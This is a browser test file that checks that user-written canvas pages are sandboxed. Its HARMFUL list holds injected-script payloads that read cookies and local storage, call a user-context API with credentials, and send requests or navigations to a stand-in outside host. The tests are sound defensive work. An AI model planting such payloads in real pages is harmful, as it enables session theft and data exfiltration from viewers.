import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import type { Browser, Page, Route } from 'playwright-core'
import { openBrowser } from '../../scripts/browser.ts'
import { expectEventually, waitUntil } from '../support/wait.ts'
import { world } from '../support/world.ts'
import { isBrowserSkipped } from './web-app.ts'

const OTHER_HOST = 'http://elsewhere.example'
/** A script that logs `got` and the value of an expression, or `refused` and its error. */
const scriptThatLogs = (expression: string) =>
  `<script>(async () => { try { const got = await (${expression}); if (got) console.log('got ' + got) } catch (error) { console.log('refused: ' + error) } })()</script>`

/** Attacks on the viewer of a canvas. Each logs what it read, or requests another address. */
const HARMFUL = [
  scriptThatLogs('document.cookie'),
  scriptThatLogs("localStorage.length + ' kept'"),
  scriptThatLogs("fetch('/api/v1/user/context').then((answer) => answer.text())"),
  scriptThatLogs(
    "fetch('/api/v1/user/context', { credentials: 'include', mode: 'no-cors' }).then(() => 'an answer')",
  ),
  scriptThatLogs(
    "new Promise((done) => { const ask = new XMLHttpRequest(); ask.onload = () => done(ask.responseText); ask.open('GET', '/api/v1/user/context'); ask.send() })",
  ),
  scriptThatLogs("window.open('/api/v1/user/context') && 'a window'"),
  `<script>location.href = '${OTHER_HOST}/href'</script>`,
  `<script>location.replace('${OTHER_HOST}/replace')</script>`,
  `<script>top.location = '${OTHER_HOST}/top'</script>`,
  "<script>location.href = '/api/v1/user/context'</script>",
  `<meta http-equiv="refresh" content="0;url=${OTHER_HOST}/refresh">`,
  `<a id="a" href="${OTHER_HOST}/link">x</a><script>document.all.a.click()</script>`,
  `<a id="a" target="_top" href="${OTHER_HOST}/toplink">x</a><script>document.all.a.click()</script>`,
  `<form id="f" action="${OTHER_HOST}/form"></form><script>document.all.f.submit()</script>`,
  `<script>fetch('${OTHER_HOST}/fetch', { mode: 'no-cors' })</script>`,
  `<script>navigator.sendBeacon('${OTHER_HOST}/beacon', 'x')</script>`,
  `<script>new EventSource('${OTHER_HOST}/events')</script>`,
  `<script src="${OTHER_HOST}/script"></script>`,
  `<script type="module">import '${OTHER_HOST}/module'</script>`,
  `<img src="${OTHER_HOST}/picture">`,
  `<svg><image href="${OTHER_HOST}/vector"/></svg>`,
  `<link rel="stylesheet" href="${OTHER_HOST}/style">`,
  `<style>@import "${OTHER_HOST}/import"; p { background: url(${OTHER_HOST}/background) }</style><p>x</p>`,
  `<iframe src="${OTHER_HOST}/frame"></iframe>`,
  `<iframe srcdoc="<script>location.href = '${OTHER_HOST}/inner'</script>"></iframe>`,
  `<object data="${OTHER_HOST}/object"></object>`,
  `<video src="${OTHER_HOST}/film" autoplay></video>`,
  `<base href="${OTHER_HOST}/"><img src="based">`,
]

const HARMLESS = `<!doctype html>
<style>p { color: rgb(1, 2, 3) }</style>
<p>before</p>
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
<script>document.querySelector('p').textContent = 'drawn by a script'</script>`

describe.skipIf(isBrowserSkipped)('the canvas of a page', () => {
  let browser: Browser

  beforeAll(async () => {
    browser = await openBrowser()
  })

  afterAll(() => browser?.close())

  /** Opens each canvas with a session cookie; returns its page, its requests and what it read. */
  async function openCanvases(canvases: readonly string[], isProtected = true) {
    const w = await world()
    const { task_id } = w.tasks.logo
    const context = await browser.newContext()
    await context.addCookies([{ name: 'session', value: 'secret', domain: 'localhost', path: '/' }])
    const visits = await Promise.all(
      canvases.map(async (content) => {
        const body = { task_id, title: 'Sketch', canvas: true, content }
        const { page_id } = await w.cleo['pages.create'](body)
        const page = await context.newPage()
        const effects = await recordEffects(
          page,
          `http://localhost/api/v1/pages/${page_id}/canvas`,
          (url) =>
            isProtected
              ? w.http(w.cleo, 'GET', new URL(url).pathname)
              : { status: 200, headers: { 'content-type': 'text/html' }, text: content },
        )
        return { page, effects }
      }),
    )
    await Bun.sleep(1000)
    return visits
  }

  interface CanvasResponse {
    status: number
    headers: Headers | Record<string, string>
    text: string
  }

  async function recordEffects(
    page: Page,
    url: string,
    respond: (url: string) => Promise<CanvasResponse> | CanvasResponse,
  ) {
    const effects: string[] = []
    let isServed = false
    await page.route('**/*', async (route: Route) => {
      const requestedUrl = route.request().url()
      if (requestedUrl !== url || isServed) {
        effects.push(`asked ${requestedUrl}`)
        return route.fulfill({ contentType: 'text/plain', body: 'private' })
      }
      isServed = true
      const { status, headers, text } = await respond(url)
      const responseHeaders = headers instanceof Headers ? Object.fromEntries(headers) : headers
      return route.fulfill({ status, headers: responseHeaders, body: text })
    })
    page.on('console', (message) => {
      if (message.text().startsWith('got ')) effects.push(message.text())
    })
    page.on('popup', (popup) => effects.push(`opened ${popup.url()}`))
    await page.goto(url, { waitUntil: 'commit' })
    return effects
  }

  test('every attack is detected when the canvas is served without sandbox and policy', async () => {
    const visits = await openCanvases(HARMFUL, false)
    const undetected = async () => HARMFUL.filter((_, at) => !visits[at]!.effects.length)
    await expectEventually(undetected, [])
    const [cookieVisit] = visits
    expect(cookieVisit!.effects).toEqual(['got session=secret'])
  })

  test('cannot read cookies, call the API, load resources or navigate', async () => {
    const visits = await openCanvases([...HARMFUL, HARMFUL.join('\n')])
    for (const [at, { effects, page }] of visits.entries()) {
      expect([HARMFUL[at], effects]).toEqual([HARMFUL[at], []])
      expect(page.url()).toEndWith('/canvas')
    }
  })

  test('applies its styles, scripts and inline images, and fills the window', async () => {
    const [{ page, effects } = { page: undefined, effects: [] }] = await openCanvases([HARMLESS])
    const findFrame = () => page!.frames().find((one) => one.url() === 'about:srcdoc')
    const frame = await waitUntil(async () => findFrame())
    const rendering = await frame.evaluate(() => {
      const [p, img] = [document.querySelector('p')!, document.querySelector('img')!]
      return [p.textContent, getComputedStyle(p).color, img.naturalWidth, self.origin]
    })
    expect([rendering, effects]).toEqual([['drawn by a script', 'rgb(1, 2, 3)', 1, 'null'], []])
    const [frameHeight, windowHeight] = [
      await frame.evaluate(() => innerHeight),
      page!.viewportSize()!.height,
    ]
    expect(frameHeight).toBe(windowHeight)
  })
})
